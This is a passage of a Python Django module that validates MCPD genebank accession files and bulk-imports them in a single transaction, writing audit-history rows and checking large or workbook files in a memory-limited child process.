"""MCPD import and export: the only code here that writes accessions, in one transaction per import."""

from __future__ import annotations

import contextlib
import csv
import gc
import logging
import multiprocessing
import operator
import os
import shutil
import tempfile
import threading
from collections import Counter
from collections.abc import Callable, Generator, Iterable, Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

from django.core.exceptions import EmptyResultSet
from django.db import connection, connections, transaction
from django.db.models import Count
from django.utils import timezone
from django.utils.translation import gettext as _
from simple_history.utils import bulk_create_with_history

from genebank.accessions.models import (
    Accession,
    AccessionIdentifier,
    AccessionName,
    Acquisition,
    CollectingEvent,
)
from genebank.accessions.registries import mcpd_fields
from genebank.accessions.sensitive import OPERATOR, shows_exact_site, withheld_site
from genebank.core.jobs import enqueue_job, job_progress, worker_forks_safely
from genebank.core.models import Country, Institute, Job, Taxon
from genebank.core.services import mark_change
from genebank.core.spreadsheets import spreadsheet_text
from genebank.exchange import safe_files
from genebank.exchange.mcpd import (
    COLLECTING_FIELDS,
    DONOR_FIELDS,
    ERROR,
    FIELDS,
    SHOWN_VALUE_LENGTH,
    WARNING,
    Problem,
    RowReader,
    canonical_decimal,
    iter_raw_rows,
    short_value,
)
from genebank.exchange.pdci import pdci_points, score_of
from genebank.exchange.readers import Mapping, ReadError, Table, is_workbook, read_table

logger = logging.getLogger(__name__)

BATCH = 2000
KEPT_PROBLEMS = 100_000
ERRORS_CSV_COLUMNS = ["row", "ACCENUMB", "field", "value", "severity", "message"]
INDEX = {name: i for i, name in enumerate(FIELDS)}
MCPD_VALUES = operator.itemgetter(*FIELDS)  # a row's values dict -> its 41 values in order
# Positions of the fields in a row's values (the writer reads them for every row).
(_PUID, _INSTCODE, _ACCENUMB, _COLLNUMB, _COLLCODE, _COLLNAME, _COLLINSTADDRESS, _COLLMISSID, _GENUS, _SPECIES, _SPAUTHOR, _SUBTAXA, _SUBTAUTHOR, _CROPNAME, _ACCENAME, _ACQDATE, _ORIGCTY, _COLLSITE, _DECLATITUDE, _LATITUDE, _DECLONGITUDE, _LONGITUDE, _COORDUNCERT, _COORDDATUM, _GEOREFMETH, _ELEVATION, _COLLDATE, _BREDCODE, _BREDNAME, _SAMPSTAT, _ANCEST, _COLLSRC, _DONORCODE, _DONORNAME, _DONORNUMB, _OTHERNUMB, _DUPLSITE, _DUPLINSTNAME, _STORAGE, _MLSSTAT, _REMARKS,) = (INDEX[name] for name in 'PUID INSTCODE ACCENUMB COLLNUMB COLLCODE COLLNAME COLLINSTADDRESS COLLMISSID GENUS SPECIES SPAUTHOR SUBTAXA SUBTAUTHOR CROPNAME ACCENAME ACQDATE ORIGCTY COLLSITE DECLATITUDE LATITUDE DECLONGITUDE LONGITUDE COORDUNCERT COORDDATUM GEOREFMETH ELEVATION COLLDATE BREDCODE BREDNAME SAMPSTAT ANCEST COLLSRC DONORCODE DONORNAME DONORNUMB OTHERNUMB DUPLSITE DUPLINSTNAME STORAGE MLSSTAT REMARKS'.split())  # fmt: skip
_TAXON = operator.itemgetter(_GENUS, _SPECIES, _SUBTAXA, _SPAUTHOR, _SUBTAUTHOR)
_COLLECTING = operator.itemgetter(*(INDEX[name] for name in COLLECTING_FIELDS))
_DONOR = operator.itemgetter(*(INDEX[name] for name in DONOR_FIELDS))

CREATE, UPDATE, UNCHANGED = "create", "update", "unchanged"


class ImportInterrupted(Exception):
    """Raised by tests (and a progress callback) to stop an import half-way."""


@dataclass
class ImportResult:
    """What an import found and did; the command prints it, the web page shows it."""

    file_name: str
    dry_run: bool = False
    rows: int = 0
    created: int = 0
    updated: int = 0
    unchanged: int = 0
    rejected: int = 0
    left_out: int = 0
    written: bool = False
    errors: int = 0
    warnings: int = 0
    problems: list[Problem] = field(default_factory=list)
    problem_counts: Counter = field(default_factory=Counter)
    new_institutes: list[str] = field(default_factory=list)

    @property
    def valid(self) -> int:
        return self.rows - self.rejected

    @property
    def exit_status(self) -> int:
        """0: every row imported (or would be); 1: any row rejected or nothing written."""
        return 1 if self.rejected else 0

    def add(self, problem: Problem, sink: Callable[[Problem], None] | None) -> None:
        if len(problem.value) > SHOWN_VALUE_LENGTH:
            # Every report of it (the page, the problems CSV, the stored session) shows the
            # start: a 50 MB value would otherwise be copied into each of them.
            problem = Problem(
                problem.field,
                short_value(problem.value),
                problem.message,
                problem.severity,
                problem.row,
                problem.accenumb,
            )
        if problem.severity == ERROR:
            self.errors += 1
        else:
            self.warnings += 1
        self.problem_counts[(problem.severity, problem.field)] += 1
        if len(self.problems) < KEPT_PROBLEMS:
            self.problems.append(problem)
        if sink is not None:
            sink(problem)


class ErrorsCsv:
    """The --errors report: one line per problem, row numbers as a spreadsheet shows them."""

    def __init__(self, path: str | Path):
        self.file = open(path, "w", encoding="utf-8", newline="")  # noqa: SIM115
        self.writer = csv.writer(self.file)
        self.writer.writerow(ERRORS_CSV_COLUMNS)

    def __call__(self, problem: Problem) -> None:
        self.writer.writerow(
            [
                problem.row or "",
                problem.accenumb,
                problem.field,
                problem.value,
                problem.severity,
                problem.message,
            ]
        )

    def close(self) -> None:
        self.file.close()


# --- import ------------------------------------------------------------------------------------


def import_mcpd(
    path: str | Path,
    *,
    user=None,
    sheet: str | None = None,
    institute: str | None = None,
    dry_run: bool = False,
    skip_invalid: bool = False,
    update: bool = False,
    mapping: Mapping | None = None,
    on_problem: Callable[[Problem], None] | None = None,
    on_batch: Callable[[int], None] | None = None,
    on_progress: Callable[[str, int], None] | None = None,
) -> ImportResult:
    """Read and validate every row, writing valid rows in one transaction; or write nothing.

    Rows are checked in batches and each batch is written as soon as it is checked, inside the
    import's transaction; when a row is rejected (and skip_invalid is not given), writing stops,
    checking goes on to report every problem, and the transaction is rolled back, so the
    database sees all the rows or none. Large files are checked in a second process (see
    _checked_batches) while this one writes. Nothing is kept in memory beyond a batch, so the
    size of the file does not matter. ReadError means the file could not be read at all.
    on_progress is told ("checked", rows) and ("written", rows) once per batch.
    """
    path = Path(path)
    sheet = sheet or (mapping.sheet if mapping else None)
    header_row = mapping.header_row if mapping else 1
    result = ImportResult(file_name=path.name, dry_run=dry_run)
    countries = list(Country.objects.values_list("iso3", flat=True))
    reader = RowReader(countries, institute=institute.upper() if institute else None)
    planner = _Planner(result, update, on_problem)
    if is_workbook(path) and _may_fork():
        # A workbook's parsers (calamine is native code) run in the child, under a memory limit:
        # a file that makes them fail costs that process, not this one.
        checked: _from_child | Generator[list[tuple], None, None] = _from_child(
            _read_and_check, path, sheet, header_row, mapping, reader
        )
    else:
        if is_workbook(path) and safe_files.can_limit_memory():
            # No fork here (a threaded server): the whole reading is tried in a fresh process
            # first, so that reading it here afterwards is known to fit.
            safe_files.probe_workbook(path, sheet, header_row)
        table = read_table(path, sheet=sheet, header_row=header_row)
        checked = _checked_batches(table, mapping, reader)
    # Checking only reads: the write transaction (on SQLite BEGIN IMMEDIATE, which locks out
    # every other writer) is held only while rows are written. A dry run never opens one, and
    # once a rejected row means nothing will be written, the transaction is rolled back at once
    # and the rest of the file is checked outside it.
    writing = not dry_run
    try:
        with contextlib.ExitStack() as write_transaction:
            if writing:
                write_transaction.enter_context(transaction.atomic())
            writer = None
            done = 0
            for items in checked:
                batch: list[_Checked] = []
                for number, values, problems, given, pdci in items:
                    if values is None:
                        for problem in problems:
                            result.add(problem, on_problem)
                        if number != header_row:
                            result.left_out += 1
                        continue
                    batch.append(planner.read(_Checked(number, values, problems, given, pdci)))
                records = planner.flush(batch)
                if writing and result.rejected and not skip_invalid:
                    transaction.set_rollback(True)
                    write_transaction.close()
                    writing = False
                if on_progress is not None:
                    on_progress("checked", result.rows)
                if not writing or not records:
                    continue
                if writer is None:
                    reason = _("MCPD import %(file)s") % {"file": path.name}
                    writer = _Writer(user, reason, planner)
                writer.prepare()
                writer.write(records)
                done += len(records)
                if on_batch is not None:
                    on_batch(done)
                if on_progress is not None:
                    on_progress("written", done)
            if not writing:
                return result
    finally:
        checked.close()
    result.written = True
    return result


def _read_and_check(path: Path, sheet, header_row: int, mapping, reader: RowReader):
    """_checked_here of the file: the work of a child that reads a workbook as well."""
    table = read_table(path, sheet=sheet, header_row=header_row)
    yield from _checked_here(table, mapping, reader)


# Files with at least this many rows are checked in a second process while this one writes.
PARALLEL_ROWS = 10_000


def _checked_batches(
    table, mapping, reader: RowReader
) -> _from_child | Generator[list[tuple], None, None]:
    """Batches of checked rows in file order, as _checked_here makes them.

    Each batch holds BATCH rows to import and the left-out rows among them. Checking a row is
    pure computation, so for a large file a forked child process does it (reading the file as
    well) and sends the batches through a pipe, while this process plans and writes: the two
    cores of a small server both work. Only from a single-threaded process (the command line):
    forking a threaded web server could copy a lock held by another thread. The child never
    touches the database, and leaves with os._exit (multiprocessing), so the connection it
    inherited is never closed by it.
    """
    if table.estimate >= PARALLEL_ROWS and _may_fork():
        return _from_child(_checked_here, table, mapping, reader)
    return _checked_here(table, mapping, reader)


def _may_fork() -> bool:
    # A worker's heartbeat thread is the one other thread allowed: the child never uses its lock
    # or its connection.
    return hasattr(os, "fork") and (threading.active_count() == 1 or worker_forks_safely())


def _checked_here(table, mapping, reader: RowReader) -> Generator[list[tuple], None, None]:
    """Batches of (row number, 41 values or None for a row left out, problems, given, PDCI).

    Plain tuples: a batch crosses a pipe from the checking process, and a tuple of texts is
    quicker to send than a Row with its dict of field names.
    """
    items: list[tuple] = []
    rows = 0
    for number, raw, problems in iter_raw_rows(table, mapping):
        if raw is None:
            items.append((number, None, problems, None, None))
            continue
        row = reader.read(number, raw)
        if problems:
            # Found while reading the row (a line break where none belongs): first, as in the file.
            accenumb = row.values["ACCENUMB"]
            row.problems[:0] = [
                Problem(p.field, p.value, p.message, p.severity, number, accenumb) for p in problems
            ]
        values = MCPD_VALUES(row.values)
        # Here rather than when writing: in a large import this runs in the checking process.
        pdci = None if row.has_error else pdci_points(values)
        items.append((number, values, row.problems, row.given, pdci))
        rows += 1
        if rows >= BATCH:
            yield items
            items, rows = [], 0
    yield items


def _child_main(connection_out, work: Callable[..., Iterable], args: tuple) -> None:
    # What the child inherited (Django, the parsers' tables) lives until it exits: out of the
    # garbage collector's sight, so its collections do not scan it again and again.
    gc.freeze()
    if safe_files.can_limit_memory():
        # It reads an uploaded file: a file that asks for more memory ends this process only.
        safe_files.limit_memory()
    try:
        for item in work(*args):
            connection_out.send(("item", item))
        connection_out.send(("done", None))
    except BaseException as exc:  # noqa: BLE001 - every failure must reach the parent
        try:
            connection_out.send(("error", exc))
        except Exception:  # an exception that cannot be pickled
            connection_out.send(("error", RuntimeError(repr(exc))))
    finally:
        connection_out.close()


class _from_child:  # noqa: N801 - used like the generator it replaces
    """The items of work(*args), run in a forked process and sent back through a pipe.

    The child starts at once (the caller works meanwhile) and gets the arguments as they are in
    memory (fork: nothing is pickled); it leaves with os._exit (multiprocessing), so a database
    connection it inherited is never closed by it. An exception in the child is raised here.
    close() stops the child if it is still working.
    """

    def __init__(self, work: Callable[..., Iterable], *args):
        self.file_name = next((a.name for a in args if isinstance(a, Path)), None)
        context = multiprocessing.get_context("fork")
        self.receiving, sending = context.Pipe(duplex=False)
        self.child = context.Process(target=_child_main, args=(sending, work, args), daemon=True)
        self.child.start()
        sending.close()

    def __iter__(self) -> Iterator:
        return self

    def __next__(self):
        try:
            kind, payload = self.receiving.recv()
        except EOFError:
            self.close()
            # It died without a word: killed by the memory limit or by a parser's abort.
            name = self.file_name or _("The file")
            raise ReadError(safe_files.stopped_message(name, self.child.exitcode)) from None
        except BaseException:
            self.close()
            raise
        if kind == "item":
            return payload
        self.close()
        if kind == "error":
            if isinstance(payload, MemoryError):
                raise ReadError(safe_files.memory_message(self.file_name or _("The file")))
            if not isinstance(payload, Exception):
                # A native parser's panic (pyo3's PanicException is a BaseException).
                raise ReadError(safe_files.stopped_message(self.file_name or _("The file"), None))
            raise payload
        raise StopIteration

    def close(self) -> None:
        self.receiving.close()
        if self.child.is_alive():
            self.child.terminate()
        self.child.join()


class _Checked:
    """A checked row in the planner: its 41 values in MCPD order and its problems so far."""

    __slots__ = ("number", "values", "problems", "given", "pdci", "key")

    def __init__(self, number: int, values: tuple, problems: list, given, pdci: int | None):
        self.number = number
        self.values = values
        self.problems = problems
        self.given = given
        self.pdci = pdci
        self.key = (values[_INSTCODE], values[_ACCENUMB])

    @property
    def has_error(self) -> bool:
        return any(p.severity == ERROR for p in self.problems)


class _Planner:
    """Finds duplicates, new institutes and existing accessions; says what to write."""

    def __init__(self, result: ImportResult, update: bool, on_problem):
        self.result = result
        self.update = update
        self.on_problem = on_problem
        self.seen: dict[tuple[str, str], int] = {}
        self.institutes: dict[str, int] = dict(Institute.objects.values_list("code", "id"))
        # Code -> whether it holds accessions in this system (it is the INSTCODE of a row).
        self.new_institutes: dict[str, bool] = {}
        self.taxa = {
            key[:5]: key[5]
            for key in Taxon.objects.values_list(
                "genus", "species", "subtaxa", "species_author", "subtaxa_author", "id"
            )
        }
        self.new_taxa: dict[tuple, None] = {}
        self.institutes_with_accessions = set(
            Accession.objects.values_list("institute__code", flat=True).distinct()
        )

    def read(self, row: _Checked) -> _Checked:
        """Problems of a checked row that need the whole file: duplicates, new institutes."""
        number = row.number
        self.result.rows += 1
        values = row.values
        if values[_INSTCODE] and values[_ACCENUMB]:
            first = self.seen.get(row.key)
            if first is not None:
                row.problems.append(
                    Problem(
                        "ACCENUMB",
                        values[_ACCENUMB],
                        _("The same accession is already in row %(row)s of this file.")
                        % {"row": first},
                        ERROR,
                        number,
                        values[_ACCENUMB],
                    )
                )
            else:
                self.seen[row.key] = number
        if not row.has_error:
            self._check_institute(row, "INSTCODE", values[_INSTCODE])
            self._check_institute(row, "DONORCODE", values[_DONORCODE])
            for name, index in (("COLLCODE", _COLLCODE), ("BREDCODE", _BREDCODE)):
                for code in filter(None, values[index].split(";")):
                    self._check_institute(row, name, code)
        return row

    def _check_institute(self, row: _Checked, name: str, code: str) -> None:
        if not code or code in self.institutes:
            return
        if code in self.new_institutes:
            self.new_institutes[code] |= name == "INSTCODE"
            return
        self.new_institutes[code] = name == "INSTCODE"
        self.result.new_institutes.append(code)
        row.problems.append(
            Problem(
                name,
                code,
                _("Institute %(code)s is not in the database: it is created by this import.")
                % {"code": code},
                WARNING,
                row.number,
                row.values[_ACCENUMB],
            )
        )

    def flush(self, batch: list[_Checked]) -> list[tuple]:
        """The batch's records to write: (status, pk, values, fields given for an update)."""
        existing = self._existing(batch)
        records = []
        for row in batch:
            status, pk = CREATE, None
            if not row.has_error and row.key in existing:
                pk, stored = existing[row.key]
                changed = [
                    name
                    for name in sorted(row.given, key=FIELDS.index)
                    if name in INDEX and stored[name] != row.values[INDEX[name]]
                ]
                if not changed:
                    status = UNCHANGED
                elif self.update:
                    status = UPDATE
                else:
                    for name in changed:
                        row.problems.append(
                            Problem(
                                name,
                                row.values[INDEX[name]],
                                _(
                                    "The accession exists with %(field)s %(old)s; use --update to "
                                    "change it."
                                )
                                % {"field": name, "old": repr(stored[name])},
                                ERROR,
                                row.number,
                                row.values[_ACCENUMB],
                            )
                        )
            for problem in row.problems:
                self.result.add(problem, self.on_problem)
            if row.has_error:
                self.result.rejected += 1
                continue
            if status == UNCHANGED:
                self.result.unchanged += 1
                continue
            if status == UPDATE:
                self.result.updated += 1
            else:
                self.result.created += 1
            values = row.values
            taxon = _TAXON(values)
            # An update's taxon is known only after merging with the stored record: made then.
            if status == CREATE and taxon not in self.taxa:
                self.new_taxa[taxon] = None
            given = tuple(sorted(row.given)) if status == UPDATE else ()
            records.append((status, pk, values, given, row.pdci))
        return records

    def _existing(self, batch: list[_Checked]) -> dict[tuple[str, str], tuple[int, dict[str, str]]]:
        by_institute: dict[str, list[str]] = {}
        for row in batch:
            code, number = row.key
            if code in self.institutes_with_accessions and not row.has_error:
                by_institute.setdefault(code, []).append(number)
        found: dict[tuple[str, str], tuple[int, dict[str, str]]] = {}
        for code, numbers in by_institute.items():
            queryset = Accession.objects.filter(institute__code=code, number__in=numbers)
            for pk, values in iter_mcpd_rows(queryset, with_pk=True, derived=False):
                found[(code, values[INDEX["ACCENUMB"]])] = (
                    pk,
                    dict(zip(FIELDS, values, strict=True)),
                )
        return found


def _select(sql: str, model, params: list, count: int) -> list[tuple]:
    marks = ", ".join(["%s"] * count)
    with connection.cursor() as cursor:
        cursor.execute(
            sql.format(table=connection.ops.quote_name(model._meta.db_table), marks=marks), params
        )
        return cursor.fetchall()


class _BulkTable:
    """Multi-row INSERTs for one model, and its history rows copied with INSERT ... SELECT.

    bulk_create spends most of its time preparing each value of each row through the field
    classes; at 200,000 accessions that is most of an import. Values here are already in their
    database form (text, int, None), so they go straight to executemany. Plain SQL, the same on
    SQLite and PostgreSQL.
    """

    def __init__(self, model, now, user_id: int | None, reason: str):
        quote = connection.ops.quote_name
        self.model = model
        meta = model._meta
        self.fields = [f for f in meta.concrete_fields if not f.primary_key]
        stamp = connection.ops.adapt_datetimefield_value(now)
        self.defaults = []
        for f in self.fields:
            if getattr(f, "auto_now", False) or getattr(f, "auto_now_add", False):
                default = stamp
            elif f.has_default():
                default = f.get_default()
            elif f.null:
                default = None
            else:
                default = ""
            self.defaults.append(default)
        self.statements: dict[tuple[str, ...], tuple[str, tuple]] = {}
        self.history_sql = None
        history = getattr(model, "history", None)
        if history is not None:
            history_meta = history.model._meta
            tracked = [
                f for f in history_meta.concrete_fields if not f.attname.startswith("history_")
            ]
            target = [quote(f.column) for f in tracked] + [
                quote(history_meta.get_field("history_date").column),
                quote(history_meta.get_field("history_change_reason").column),
                quote(history_meta.get_field("history_type").column),
                quote(history_meta.get_field("history_user").column),
            ]
            source = [quote(meta.get_field(f.name).column) for f in tracked]
            self.history_sql = (
                f"INSERT INTO {quote(history_meta.db_table)} ({', '.join(target)}) "
                f"SELECT {', '.join(source)}, %s, %s, %s, %s FROM {quote(meta.db_table)} "
                "WHERE {key} IN ({marks})"
            )
            self.history_params = [stamp, reason, "+", user_id]

    def insert(self, names: tuple[str, ...], rows: list[tuple]) -> None:
        """rows: the values of the columns `names` (attnames), in that order; every other
        column gets its default. Decimal columns take the checked text as it is."""
        found = self.statements.get(names)
        if found is None:
            quote = connection.ops.quote_name
            by_name = {
                f.attname: (f, default)
                for f, default in zip(self.fields, self.defaults, strict=True)
            }
            rest = [name for name in by_name if name not in names]
            columns = ", ".join(quote(by_name[name][0].column) for name in (*names, *rest))
            marks = ", ".join(["%s"] * (len(names) + len(rest)))
            table = quote(self.model._meta.db_table)
            sql = f"INSERT INTO {table} ({columns}) VALUES ({marks})"
            found = self.statements[names] = (sql, tuple(by_name[name][1] for name in rest))
        sql, tail = found
        if tail:
            rows = [row + tail for row in rows]
        with connection.cursor() as cursor:
            cursor.executemany(sql, rows)

    def history(self, ids: list[int], key: str) -> None:
        if self.history_sql is None or not ids:
            return
        quote = connection.ops.quote_name
        for start in range(0, len(ids), 1000):
            chunk = ids[start : start + 1000]
            sql = self.history_sql.format(key=quote(key), marks=", ".join(["%s"] * len(chunk)))
            with connection.cursor() as cursor:
                cursor.execute(sql, [*self.history_params, *chunk])


def _m2m_history(field, owner_ids: list[int]) -> None:
    """The snapshot of a many-to-many field for the '+' history rows of newly written owners.

    simple-history keeps, beside each history row, the through rows of its many-to-many fields
    as they were; the import writes the through rows itself, so it writes those too, as
    simple-history would have: otherwise the first later change of the record would show the
    related records as added by that change.
    """
    if not owner_ids:
        return
    quote = connection.ops.quote_name
    history = field.model.history.model
    snapshot = getattr(history, field.name).model
    through = field.remote_field.through
    names = [f.name for f in through._meta.concrete_fields]
    target = [quote(snapshot._meta.get_field(name).column) for name in names]
    target.append(quote(snapshot._meta.get_field("history").column))
    source = [f"t.{quote(through._meta.get_field(name).column)}" for name in names]
    owner = quote(field.m2m_column_name())
    sql = (
        f"INSERT INTO {quote(snapshot._meta.db_table)} ({', '.join(target)}) "
        f"SELECT {', '.join(source)}, h.{quote(history._meta.pk.column)} "
        f"FROM {quote(through._meta.db_table)} t "
        f"JOIN {quote(history._meta.db_table)} h ON h.{quote(history._meta.get_field('id').column)} "
        f"= t.{owner} AND h.{quote(history._meta.get_field('history_type').column)} = '+' "
        f"WHERE t.{owner} IN ({{marks}}) ORDER BY t.{quote(through._meta.pk.column)}"
    )
    for start in range(0, len(owner_ids), 1000):
        chunk = owner_ids[start : start + 1000]
        with connection.cursor() as cursor:
            cursor.execute(sql.format(marks=", ".join(["%s"] * len(chunk))), chunk)


EMPTY_EVENT = {
    "collector_number": "",
    "collecting_institute_name": "",
    "collecting_institute_address": "",
    "mission_code": "",
    "site": "",
    "latitude": None,
    "longitude": None,
    "latitude_dms": "",
    "longitude_dms": "",
    "coordinate_uncertainty": None,
    "datum": "",
    "georeference_method": "",
    "elevation": None,
    "date": "",
    "source": None,
}


# The columns _Writer.accession_values, event_values and acquisition_values give, in order.
ACCESSION_COLUMNS = (
    "institute_id",
    "number",
    "sequence",
    "puid",
    "taxon_id",
    "crop_name",
    "acquisition_date",
    "origin_country_id",
    "sample_status",
    "ancestry",
    "breeder_name",
    "mls_status",
    "storage_codes",
    "duplicate_site_codes",
    "duplicate_site_names",
    "remarks",
    "pdci",
)
EVENT_COLUMNS = (
    "collector_number",
    "collecting_institute_name",
    "collecting_institute_address",
    "mission_code",
    "site",
    "latitude",
    "longitude",
    "latitude_dms",
    "longitude_dms",
    "coordinate_uncertainty",
    "datum",
    "georeference_method",
    "elevation",
    "date",
    "source",
)
ACQUISITION_COLUMNS = ("kind", "donor_institute_id", "donor_name", "donor_number")


NAME_COLUMNS = ("accession_id", "name", "position")
IDENTIFIER_COLUMNS = ("accession_id", "institute_code", "identifier", "position")


def _name_rows(pk: int, v: tuple) -> list[tuple]:
    """NAME_COLUMNS of the accession's names (ACCENAME, ';'-separated, in their order)."""
    return [
        (pk, name, position) for position, name in enumerate(filter(None, v[_ACCENAME].split(";")))
    ]


def _identifier_rows(pk: int, v: tuple) -> list[tuple]:
    """IDENTIFIER_COLUMNS of the accession's other numbers (OTHERNUMB, INSTCODE:number pairs)."""
    rows = []
    for position, pair in enumerate(filter(None, v[_OTHERNUMB].split(";"))):
        code, _sep, identifier = pair.partition(":")
        rows.append((pk, code, identifier, position))
    return rows


def _int_or_none(text: str) -> int | None:
    return int(text) if text else None


class _Writer:
    """Second pass: bulk inserts with history, inside the import's transaction."""

    def __init__(self, user, reason: str, planner: _Planner):
        self.user = user
        self.reason = reason
        self.planner = planner
        self.institutes = planner.institutes
        self.taxa = planner.taxa
        self.institute_objects: dict[int, Institute] = {}
        self.created_institutes: dict[str, bool] = {}
        self.countries: set[str] | None = None
        now = timezone.now()
        user_id = user.pk if user is not None else None
        self.tables = {
            model: _BulkTable(model, now, user_id, reason)
            for model in (
                Accession,
                AccessionName,
                AccessionIdentifier,
                CollectingEvent,
                Acquisition,
                Accession.breeding_institutes.through,
                CollectingEvent.collecting_institutes.through,
            )
        }

    def history(self, objects: list, model) -> list:
        if not objects:
            return objects
        return bulk_create_with_history(
            objects,
            model,
            batch_size=500,
            default_user=self.user,
            default_change_reason=self.reason,
        )

    def prepare(self) -> None:
        """Create the institutes and taxa the rows checked so far need (once each)."""
        if self.countries is None:
            self.countries = set(Country.objects.values_list("iso3", flat=True))
        new = [
            Institute(
                code=code,
                name=code,
                country_id=code[:3] if code[:3] in self.countries else None,
                is_holding=holding,
            )
            for code, holding in self.planner.new_institutes.items()
            if code not in self.created_institutes
        ]
        for institute in self.history(new, Institute):
            self.institutes[institute.code] = institute.pk
            self.created_institutes[institute.code] = institute.is_holding
        # A code first met as a donor and later as the INSTCODE of a row holds accessions.
        for code, holding in self.planner.new_institutes.items():
            if holding and not self.created_institutes[code]:
                institute = Institute.objects.get(pk=self.institutes[code])
                institute.is_holding = True
                self._save(institute)
                self.created_institutes[code] = True
        taxa = [
            Taxon(genus=g, species=s, subtaxa=st, species_author=sa, subtaxa_author=sta)
            for (g, s, st, sa, sta) in self.planner.new_taxa
            if (g, s, st, sa, sta) not in self.taxa
        ]
        for taxon in self.history(taxa, Taxon):
            key = (
                taxon.genus,
                taxon.species,
                taxon.subtaxa,
                taxon.species_author,
                taxon.subtaxa_author,
            )
            self.taxa[key] = taxon.pk

    def sequence(self, institute_id: int, number: str) -> int | None:
        institute = self.institute_objects.get(institute_id)
        if institute is None:
            institute = Institute.objects.get(pk=institute_id)
            self.institute_objects[institute_id] = institute
        sequence = institute.parse_accession_sequence(number)
        # The column is a positive integer; numbers like 'PI 0' or very long digit runs have none.
        if sequence is not None and not 0 < sequence < 2**31:
            return None
        return sequence

    def new_taxon(self, key: tuple) -> int:
        genus, species, subtaxa, species_author, subtaxa_author = key
        taxon = Taxon(
            genus=genus,
            species=species,
            subtaxa=subtaxa,
            species_author=species_author,
            subtaxa_author=subtaxa_author,
        )
        self._save(taxon)
        self.taxa[key] = taxon.pk
        return taxon.pk

    def accession_values(self, v: tuple, pdci: int | None = None) -> tuple:
        """The ACCESSION_COLUMNS of a row's 41 values."""
        taxon = _TAXON(v)
        institute_id = self.institutes[v[_INSTCODE]]
        return (
            institute_id,
            v[_ACCENUMB],
            self.sequence(institute_id, v[_ACCENUMB]),
            v[_PUID],
            self.taxa[taxon] if taxon in self.taxa else self.new_taxon(taxon),
            v[_CROPNAME],
            v[_ACQDATE],
            v[_ORIGCTY] or None,
            _int_or_none(v[_SAMPSTAT]),
            v[_ANCEST],
            v[_BREDNAME],
            _int_or_none(v[_MLSSTAT]),
            v[_STORAGE],
            v[_DUPLSITE],
            v[_DUPLINSTNAME],
            v[_REMARKS],
            # From the file's row: a new accession has no seed lots to derive STORAGE from.
            # Updates are recomputed from the stored record after writing (refresh_pdci).
            score_of(pdci_points(v) if pdci is None else pdci),
        )

    def accession_fields(self, v: tuple) -> dict:
        return dict(zip(ACCESSION_COLUMNS, self.accession_values(v), strict=True))

    @staticmethod
    def event_values(v: tuple) -> tuple | None:
        """The EVENT_COLUMNS of a row's 41 values; None when it has no collecting data."""
        if not any(_COLLECTING(v)):
            return None
        return (
            v[_COLLNUMB],
            v[_COLLNAME],
            v[_COLLINSTADDRESS],
            v[_COLLMISSID],
            v[_COLLSITE],
            v[_DECLATITUDE] or None,
            v[_DECLONGITUDE] or None,
            v[_LATITUDE],
            v[_LONGITUDE],
            _int_or_none(v[_COORDUNCERT]),
            v[_COORDDATUM],
            v[_GEOREFMETH],
            _int_or_none(v[_ELEVATION]),
            v[_COLLDATE],
            _int_or_none(v[_COLLSRC]),
        )

    def event_fields(self, v: tuple) -> dict | None:
        values = self.event_values(v)
        return None if values is None else dict(zip(EVENT_COLUMNS, values, strict=True))

    def acquisition_values(self, v: tuple) -> tuple | None:
        """The ACQUISITION_COLUMNS of a row's 41 values; None when it names no donor."""
        if not any(_DONOR(v)):
            return None
        donor = v[_DONORCODE]
        return (
            Acquisition.Kind.DONATION.value,
            self.institutes[donor] if donor else None,
            v[_DONORNAME],
            v[_DONORNUMB],
        )

    def acquisition_fields(self, v: tuple) -> dict | None:
        values = self.acquisition_values(v)
        return None if values is None else dict(zip(ACQUISITION_COLUMNS, values, strict=True))

    def write(self, records: list[tuple]) -> None:
        creates = [r for r in records if r[0] == CREATE]
        updates = [r for r in records if r[0] == UPDATE]
        if creates:
            self.create([(r[2], r[4]) for r in creates])
        for _status, pk, values, given, _pdci in updates:
            self.update(pk, values, given)
        if updates:
            refresh_pdci(Accession.objects.filter(pk__in=[r[1] for r in updates]))

    def create(self, records: list[tuple]) -> None:
        """New accessions and their records: raw multi-row INSERTs and INSERT ... SELECT history.

        records: (41 values, PDCI points or None).
        """
        tables = self.tables
        by_institute: dict[int, list[tuple]] = {}
        for v, pdci in records:
            values = self.accession_values(v, pdci)
            by_institute.setdefault(values[0], []).append(values)
        ids: dict[tuple[int, str], int] = {}
        for institute_id, accessions in by_institute.items():
            tables[Accession].insert(ACCESSION_COLUMNS, accessions)
            numbers = [a[1] for a in accessions]
            ids.update(
                ((institute_id, number), pk)
                for pk, number in _select(
                    "SELECT id, number FROM {table} WHERE institute_id = %s AND number IN ({marks})",
                    Accession,
                    [institute_id, *numbers],
                    len(numbers),
                )
            )
        institutes = self.institutes
        accession_ids = []
        names, identifiers, events, acquisitions = [], [], [], []
        bred: list[tuple[int, int]] = []  # (accession id, breeding institute id)
        event_codes: dict[int, list[str]] = {}
        for v, _pdci in records:
            pk = ids[(institutes[v[_INSTCODE]], v[_ACCENUMB])]
            accession_ids.append(pk)
            if v[_ACCENAME]:
                names.extend(_name_rows(pk, v))
            if v[_OTHERNUMB]:
                identifiers.extend(_identifier_rows(pk, v))
            event = self.event_values(v)
            if event is not None:
                events.append((pk, *event))
                codes = list(filter(None, v[_COLLCODE].split(";")))
                if codes:
                    event_codes[pk] = codes
            acquisition = self.acquisition_values(v)
            if acquisition is not None:
                acquisitions.append((pk, *acquisition))
            if v[_BREDCODE]:
                bred.extend(
                    (pk, institutes[code]) for code in filter(None, v[_BREDCODE].split(";"))
                )
        tables[Accession].history(accession_ids, key="id")
        for model, columns, rows in (
            (AccessionName, NAME_COLUMNS, names),
            (AccessionIdentifier, IDENTIFIER_COLUMNS, identifiers),
            (CollectingEvent, ("accession_id", *EVENT_COLUMNS), events),
            (Acquisition, ("accession_id", *ACQUISITION_COLUMNS), acquisitions),
        ):
            if rows:
                tables[model].insert(columns, rows)
                tables[model].history(accession_ids, key="accession_id")
        if bred:
            tables[Accession.breeding_institutes.through].insert(
                ("accession_id", "institute_id"), bred
            )
            _m2m_history(
                Accession._meta.get_field("breeding_institutes"), sorted({b[0] for b in bred})
            )
        if event_codes:
            event_ids = _select(
                "SELECT accession_id, id FROM {table} WHERE accession_id IN ({marks})",
                CollectingEvent,
                list(event_codes),
                len(event_codes),
            )
            tables[CollectingEvent.collecting_institutes.through].insert(
                ("collectingevent_id", "institute_id"),
                [
                    (event_id, institutes[code])
